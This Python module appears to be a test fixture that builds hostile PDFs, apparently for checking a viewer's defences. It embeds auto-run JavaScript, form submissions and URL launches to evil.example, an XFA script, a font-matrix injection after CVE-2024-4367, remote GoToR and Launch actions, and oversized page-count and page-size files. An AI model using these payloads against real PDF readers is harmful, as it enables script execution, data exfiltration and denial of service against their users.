"""PDFs that try what a PDF can try on whoever looks at it; each by its name, always the same bytes."""

from collections.abc import Mapping, Sequence

_PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>%s>>"
_FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"


def built(*objects: bytes, trailer: bytes = b"") -> bytes:
    """A PDF of these objects, numbered from 1; the first is its catalogue."""
    written, starts = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, start=1):
        starts.append(len(written))
        written += b"%d 0 obj%s endobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % start for start in starts)
    count = len(objects) + 1
    end = b"trailer<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (count, trailer, len(written))
    return written + b"xref\n0 %d\n0000000000 65535 f \n" % count + table + end


def stream(content: bytes, extra: bytes = b"") -> bytes:
    """A stream object."""
    return b"<</Length %d%s>>stream\n%s\nendstream" % (len(content), extra, content)


def _line(text: bytes) -> bytes:
    return stream(b"BT /F 24 Tf 72 700 Td (%s) Tj ET" % text)


def _one_page(
    text: bytes, *, catalogue: bytes = b"", page: bytes = b"", font: bytes = _FONT, more: Sequence[bytes] = ()
) -> bytes:
    return built(
        b"<</Type/Catalog/Pages 2 0 R%s>>" % catalogue,
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        _PAGE % page,
        _line(text),
        font,
        *more,
    )


_CODE = rb"app.alert\(1\); this.submitForm\('http://evil.example/js'\); app.launchURL\('http://evil.example/u'\)"
_JAVASCRIPT = b"<</S/JavaScript/JS(" + _CODE + b")>>"
_LINK = b"<</Type/Annot/Subtype/Link/Rect[0 0 612 792]/A<</S/URI/URI(http://evil.example/link)>>>>"
_FIELD = (
    b"<</Type/Annot/Subtype/Widget/FT/Tx/T(name)/V(what was filled in)/DA(/F 12 Tf 0 g)/Rect[72 600 400 620]"
    b"/AA<</K %s/F %s/C %s/E %s>>>>" % ((_JAVASCRIPT,) * 4)
)
_SUBMIT = (
    b"<</Type/Annot/Subtype/Widget/FT/Btn/Ff 65536/T(go)/Rect[72 500 400 520]"
    b"/A<</S/SubmitForm/F(http://evil.example/f)>>>>"
)
_XFA = (
    b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/">'
    b'<subform name="f"><event activity="initialize"><script contentType="application/x-javascript">app.alert(1)'
    b"</script></event></subform></template></xdp:xdp>"
)
_MATRIX = rb"[1 2 3 4 5 (1\); alert\(origin\)//)]"
_DESCRIPTOR = (
    b"<</Type/FontDescriptor/FontName/SomeFont/Flags 4/FontBBox[0 0 1 1]/ItalicAngle 0/Ascent 1/Descent 0"
    b"/CapHeight 1/StemV 1/FontFile 7 0 R>>"
)
_OPENS_ANOTHER = (
    b"/OpenAction<</S/GoToR/F<</FS/URL/F(http://evil.example/r.pdf)>>/D[0/Fit]>>/URI<</Base(http://evil.example/)>>"
)

# Each with the text that it shows.
ACTS: Mapping[str, tuple[bytes, str]] = {
    "scripts": (
        _one_page(
            b"with scripts",
            catalogue=b"/OpenAction %s/AA<</WC %s>>/Names<</JavaScript<</Names[(a) %s]>>>>"
            b"/AcroForm<</NeedAppearances true/DR<</Font<</F 5 0 R>>>>/Fields[7 0 R 8 0 R]>>" % ((_JAVASCRIPT,) * 3),
            page=b"/AA<</O %s>>/Annots[6 0 R 7 0 R 8 0 R]" % _JAVASCRIPT,
            more=(_LINK, _FIELD, _SUBMIT),
        ),
        "with scripts",
    ),
    # The matrix of a font once became code (CVE-2024-4367).
    "font-matrix": (
        _one_page(
            b"with a matrix",
            font=_FONT.replace(b"Helvetica", b"SomeFont/FontDescriptor 6 0 R/FirstChar 0/LastChar 0/Widths[500]"),
            more=(
                _DESCRIPTOR,
                stream(b"%!PS-AdobeFont-1.0: SomeFont\n/FontMatrix " + _MATRIX + b" def\n", b"/Length1 1"),
            ),
        ),
        "with a matrix",
    ),
    "xfa": (
        _one_page(b"with xfa", catalogue=b"/AcroForm<</Fields[]/XFA 6 0 R>>", more=(stream(_XFA),)),
        "with xfa",
    ),
    "elsewhere": (
        _one_page(
            b"from elsewhere",
            catalogue=_OPENS_ANOTHER,
            page=b"/AA<</O<</S/Launch/F(http://evil.example/x)>>>>",
        ),
        "from elsewhere",
    ),
    "a-million-pages": (
        built(
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1000000>>",
            _PAGE % b"",
            _line(b"the only page"),
            _FONT,
        ),
        "the only page",
    ),
    "an-endless-page": (
        built(
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            (_PAGE % b"").replace(b"612 792", b"1000000000 1000000000"),
            _line(b"far too large"),
            _FONT,
        ),
        "far too large",
    ),
}
